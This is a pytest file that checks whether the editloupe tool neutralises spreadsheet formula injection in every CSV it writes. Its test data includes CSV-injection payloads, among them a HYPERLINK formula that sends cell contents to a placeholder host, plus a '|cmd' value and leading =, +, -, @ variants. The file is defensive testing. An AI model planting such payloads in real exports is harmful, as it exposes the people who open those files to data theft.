"""No cell of a CSV file that editloupe writes is a formula to a spreadsheet: names and texts come from strangers."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from editloupe.figures.labels import read_labels
from editloupe.figures.render import records_csv
from tests.conftest import final

Run = Callable[..., tuple[int, str, str]]

FORMULA = '=HYPERLINK("http://h/?"&A1,"see")'
TEXTS = (
    FORMULA, "+1\t+1", "-2+3|cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", '"=1+1"', "'=1", "''-x", "'\tx", "＝1",
    "\u00a0@x", "\ufeff=1", "- remove the dog", "-", "-3.5.1", "-inf", "-1e5x",
)  # fmt: skip
PLAIN = (
    "", "Make it red.", "a=1", "it's", "'quoted'", "3-2", "-3.5", "+2", "-1e5", " -7 ", "„-“", "'-3.5", "'+2", "'-.5e3",
)  # fmt: skip


def is_formula(cell: str) -> bool:
    """By a reading of its own: the first thing that is no blank, quote or mark is a sign; numbers are none."""
    try:
        float(cell)
    except ValueError:
        pass
    else:
        return "inf" in cell
    if cell[:1] == "'":
        return False
    bare = cell.lstrip(' \t\r\n\u00a0\ufeff"`')
    return cell[:1] in ("\t", "\r", "\n") or bare[:1] in tuple("=+-@＝")


def test_each_text_is_harmless_and_reads_back_as_it_was(tmp_path: Path):
    file = tmp_path / "table.csv"
    file.write_text(records_csv([{"item": text, FORMULA: 1, "score": -3.5} for text in (*TEXTS, *PLAIN)]), newline="")
    with file.open(newline="") as read:
        head, *rows = csv.reader(read)
    assert [cell for row in (head, *rows) for cell in row if is_formula(cell)] == []
    kept = [row[0] for row in rows][len(TEXTS) :]
    assert kept[:-3] == list(PLAIN[:-3]), "what is no formula stays as it is"
    assert {row[2] for row in rows} == {"-3.5"}
    table = read_labels(file)
    assert table.columns == ("item", FORMULA, "score")
    assert [line.values["item"] for line in table.lines] == [*TEXTS, *PLAIN]


@pytest.fixture
def judged(editloupe: Run, edits: Callable[..., Path], tmp_path: Path) -> Path:
    """A run whose names, texts and answers are formulas."""
    folder = edits(2, types=(FORMULA, "@type"))
    rows = [json.loads(line) for line in (folder / "metadata.jsonl").read_text().splitlines()]
    for number, row in enumerate(rows):
        row |= {"id": f"=id{number}", "editor": "+editor", "instruction": FORMULA, "bbox": [20, 20, 44, 44]}
        row |= {"human_instruction_following": "Wrong Action", "human_visual_consistency": "Excellent"}
    (folder / "metadata.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    script = tmp_path / "=script.jsonl"
    script.write_text(json.dumps(final("Wrong Action", FORMULA)) + "\n")
    backends = ("--backend", f"scripted/{script}", "--backend", f"scripted/{shutil.copy(script, tmp_path / '+2.jsonl')}")
    code, _, err = editloupe("judge", folder, *backends, "--criteria", "if", "--out", tmp_path / "run")
    assert code == 0, err
    return tmp_path / "run"


def test_no_command_writes_a_formula(editloupe: Run, judged: Path, tmp_path: Path):
    out = tmp_path / "out"
    out.mkdir()
    commands = (
        ("export", judged, "--findings", out / "findings.csv"),
        ("report", judged, "--out", out / "report"),
        ("compare", judged, "--out", out / "compare"),
        ("show", judged, "--format", "csv"),
    )
    for command in commands:
        code, said, err = editloupe(*command)
        assert code == 0, (command, err)
        if "csv" in command:
            (out / f"{command[0]}.csv").write_text(said, newline="")
    written = sorted(path for path in out.rglob("*") if path.suffix in (".csv", ".tsv"))
    assert len(written) > 6
    cells = []
    for path in written:
        with path.open(newline="", encoding="utf-8") as file:
            cells += [(path.name, cell) for row in csv.reader(file) for cell in row]
    assert [found for found in cells if is_formula(found[1])] == []
    for text in ("=id0", "+editor", FORMULA, "@type"):
        assert any(cell == f"'{text}" for _, cell in cells), text
